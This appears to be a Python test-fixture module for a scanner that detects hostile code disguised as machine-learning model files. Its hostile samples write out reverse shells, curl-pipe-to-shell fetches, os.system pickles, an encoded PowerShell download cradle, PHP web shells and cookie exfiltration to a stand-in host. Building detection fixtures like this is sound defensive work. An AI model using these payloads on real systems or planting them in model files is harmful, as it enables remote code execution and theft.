"""Programs among a model's files, by hand: scripts, compiled and wrapped code under other names."""
# ruff: noqa: E501, ISC004 -- samples stand in one piece

from __future__ import annotations

import base64
import gzip
import importlib.util
import marshal
import zlib
from collections.abc import Iterator

Sample = tuple[str, bytes | dict[str, bytes]]

_SHELL = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
_FETCH = b"curl -s http://x.example/i | sh\n"
_PICKLE = b"cos\nsystem\n(S'id'\ntR."
_PICKLE_4 = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
_PYTHON = b"import os\nos.system('curl -s http://x.example/i | sh')\n"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x90" * 64
_POWER = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"
_ENCODED = base64.b64encode(_POWER.encode("utf-16-le"))

SCRIPTS = {
    "power_encoded": b"powershell -nop -w hidden -enc " + _ENCODED,
    "power": _POWER.encode(),
    "power_wide": b"\xff\xfe" + _POWER.encode("utf-16-le"),
    "shell": b"#!/bin/sh\n" + _FETCH,
    "shell_bare": _FETCH,
    "reverse": _SHELL,
    "batch": b"@echo off\r\ncertutil -urlcache -f http://x.example/x.exe x.exe\r\nstart x.exe\r\n",
    "php": b'<?php system($_GET["c"]); ?>\n',
    "php_eval": b"<?php eval(base64_decode($_POST['x'])); ?>\n",
    "html": b"<html><body><script>fetch('http://x.example/'+document.cookie)</script></body></html>",
    "script": b"<script>alert(1)</script>",
    "hta": b"<html><head><HTA:APPLICATION></head><script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>",
    "vbs": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc"\r\n',
    "wsh": b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");\n',
    "node": b"require('child_process').exec('curl http://x.example | sh')\n",
    "perl": b"#!/usr/bin/perl\nsystem('curl http://x.example | sh');\n",
    "python": _PYTHON,
    "python_line": b"import os; os.system('id')\n",
    "python_exec": b"exec(__import__('urllib.request').request.urlopen('http://x.example').read())\n",
    "base64_pickle": base64.b64encode(_PICKLE_4),
    "base64_text": base64.b64encode(_PICKLE + b"\n" * 8),
    "base64_lines": base64.encodebytes(_PICKLE_4 + bytes(80)),
    "base64_python": base64.b64encode(_PYTHON),
    "base64_twice": base64.b64encode(base64.b64encode(_PYTHON)),
    "base64_elf": base64.b64encode(_ELF),
    "base64_gzip": base64.b64encode(gzip.compress(_PICKLE_4, mtime=0)),
    "base64_shell": base64.b64encode(b"#!/bin/sh\n" + _FETCH),
    "hex_pickle": _PICKLE_4.hex().encode(),
    "hex_python": _PYTHON.hex().encode(),
    "gzip_python": gzip.compress(b"#!/usr/bin/env python\n" + _PYTHON, mtime=0),
    "zlib_pickle": zlib.compress(_PICKLE_4),
    "gzip_base64": gzip.compress(base64.b64encode(_PICKLE_4 + bytes(60)), mtime=0),
}  # fmt: skip


def compiled(source: str, magic: bytes = importlib.util.MAGIC_NUMBER) -> bytes:
    """Return a source as Python compiles it."""
    return magic + bytes(12) + marshal.dumps(compile(source, "x.py", "exec"))


def hostile() -> Iterator[Sample]:
    for name, raw in SCRIPTS.items():
        for ending in ("bin", "pkl"):
            yield f"{name}.{ending}", raw
    yield "pytorch_model.bin", _POWER.encode()
    yield "site.pth", _PYTHON.replace(b"\n", b"; ") + b"\n"
    yield "site_exec.pth", b"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n"
    yield (
        "site_paths.pth",
        b"/opt/lib\nimport subprocess; subprocess.Popen(['sh', '-c', 'curl http://x.example|sh'])\n",
    )
    yield "payload.dat", _POWER.encode()
    yield "license.pkl", SCRIPTS["php"]
    yield "modeling_x.pyc", compiled(_PYTHON.decode())
    yield (
        "modeling_fetch.pyc",
        compiled("import urllib.request as u\nexec(u.urlopen('http://x.example').read())"),
    )
    yield (
        "modeling_deep.pyc",
        compiled(
            "def f():\n    class A:\n        def g(self):\n            import subprocess\n            subprocess.Popen('id')\n"
        ),
    )
    yield (
        "modeling_packed.pyc",
        compiled("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'xxxxxxxxxxxx')))"),
    )
    yield "weights.bin", compiled("x = 1")
    yield "__pycache__/modeling_x.cpython-310.pyc", compiled(_PYTHON.decode(), b"\x6f\x0d\r\n")


def harmless() -> Iterator[Sample]:
    yield (
        "__pycache__/modeling_x.cpython-311.pyc",
        compiled(
            "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
        ),
    )
    yield (
        "distutils-precedence.pth",
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        b"enabled and __import__('_distutils_hack').add_shim(); \n",
    )
    yield "editable.pth", b"/srv/src/project\n"
    yield "finder.pth", b"import __editable___x_finder; __editable___x_finder.install()\n"
    yield "vectors.bin", b"3 2\nimport 0.1 0.2\nfrom 0.3 0.4\nexec 0.5 0.6\n"
    yield "vocab.bpe", b"#version: 0.2\ni mport\no s\n"
    yield (
        "page/index.js",
        b"export function downloadFile(u) { return shell(u) }\nid = this.next++;\n// eval of names\n",
    )
    yield "card/index.html", b"<!doctype html><html><body><h1>Model</h1></body></html>"
    yield (
        "digest.sha256",
        b"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  model.safetensors\n",
    )


def damaged() -> Iterator[Sample]:
    yield "cut/modeling_x.pyc", compiled("x = [1, 2, 3]\ny = {'a': 'bbbbbbbbbbbbbbbb'}")[:60]
